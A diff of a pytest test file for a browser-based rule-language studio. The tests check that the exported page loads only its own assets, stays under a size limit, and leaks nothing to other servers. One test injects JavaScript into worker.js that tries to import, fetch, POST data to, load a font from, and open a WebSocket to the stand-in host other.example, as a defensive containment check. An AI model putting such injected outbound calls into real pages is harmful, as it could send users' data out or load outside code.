@@ -1,19 +1,15 @@
 """Nothing leaves the built page and nothing strange ends it: links of anybody, other servers, a runtime that fails."""
 
-import functools
 import gzip
-import threading
 import time
-from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
-from typing import ClassVar
 
 import pytest
 from rulelang_studio import STATIC
 from rulelang_studio.link import fragment
 
-from rulelang.tools.studio.site import export, find_site
+from rulelang.tools.studio.site import find_site
 from tests.studio.conftest import serving
-from tests.studio.page import START, of_page, packed
+from tests.studio.page import PAGE, START, of_page, packed
 
 pytestmark = of_page
 
@@ -22,8 +18,9 @@ def test_it_is_as_small_as_promised(opened):
     opened.seen.clear()
     opened.open("?plain")
     asked = [name or "index.html" for _, name, _ in opened.seen if name != "folder.json"]
-    assert {"app.js", "bundle.zip", "pyodide/pyodide.asm.wasm"} <= set(asked)
-    assert "memory.bin" not in asked
+    own = {f"{PAGE.name}/{name}" for name in ("app.js", "bundle.zip", "pyodide/pyodide.asm.wasm")}
+    assert own <= set(asked)
+    assert f"{PAGE.name}/memory.bin" not in asked
     assert sum(len(gzip.compress((STATIC / name).read_bytes(), 6)) for name in asked) <= 10_500_000
     opened.open()
 
@@ -160,39 +157,16 @@ def test_the_proxy_would_have_seen_it(opened):
     assert {host for host in hosts if not host.endswith(".google.com")} == {"control.example"}  # the browser's own
 
 
-class _Plain(SimpleHTTPRequestHandler):
-    """Any web server: it sends files, and nothing along with them."""
-
-    extensions_map: ClassVar[dict[str, str]] = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}
-
-    def log_message(self, *words):
-        pass
-
-
-@pytest.fixture
-def exported(tmp_path):
-    """A copy of the page on a web server that knows nothing of it; the address."""
-    export(find_site(), tmp_path / "public")
-    handler = functools.partial(_Plain, directory=tmp_path / "public")
-    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as plain:
-        thread = threading.Thread(target=plain.serve_forever)
-        thread.start()
-        yield tmp_path / "public", f"http://127.0.0.1:{plain.server_port}/"
-        plain.shutdown()
-        thread.join()
-
-
 def test_a_copy_on_any_web_server_lets_nothing_out(page, exported):
-    folder, address = exported
     tries = (
         "await Promise.allSettled([() => import('http://other.example/a.mjs'), () => fetch('http://other.example/b'),"
         "() => fetch('http://other.example/c', { method: 'POST', mode: 'no-cors', body: 'text' }),"
         "() => new FontFace('x', 'url(http://other.example/d)').load(), () => new Promise((done) => {"
         "new WebSocket('ws://other.example/e').onerror = done })].map(async (attempt) => attempt()));\n"
     )
-    worker = folder / "worker.js"
+    worker = exported.folder / PAGE.name / "worker.js"
     worker.write_text(tries + worker.read_text("utf-8"), encoding="utf-8")
-    page.driver.get(address)
+    page.driver.get(exported.address)
     page.until("window.studio && studio.engine.ready", seconds=START)
     page.settle()
     assert "19,337,349.40" in page.tab("pays")
@@ -222,12 +196,10 @@ def test_the_memory_is_an_accelerator_only(page, tmp_path):
     page.open("?plain")
     assert page.js("return studio.engine.marks.memory") is None
     assert page.js("return studio.engine.marks.package") > with_memory
-    (tmp_path / "damaged").write_bytes(
-        gzip.compress(gzip.decompress((STATIC / "memory.bin").read_bytes())[:20_000_000])
-    )
+    (tmp_path / "damaged").write_bytes(gzip.compress(gzip.decompress((PAGE / "memory.bin").read_bytes())[:20_000_000]))
     (tmp_path / "nothing").write_bytes(b"\x1f\x8bnothing")
     for name in ("damaged", "nothing"):
-        with serving({**find_site(), "memory.bin": tmp_path / name}) as other:
+        with serving({**find_site(), f"{PAGE.name}/memory.bin": tmp_path / name}) as other:
             page.driver.get(other.address)
             page.until("window.studio && studio.engine.ready", seconds=START)
             page.settle()
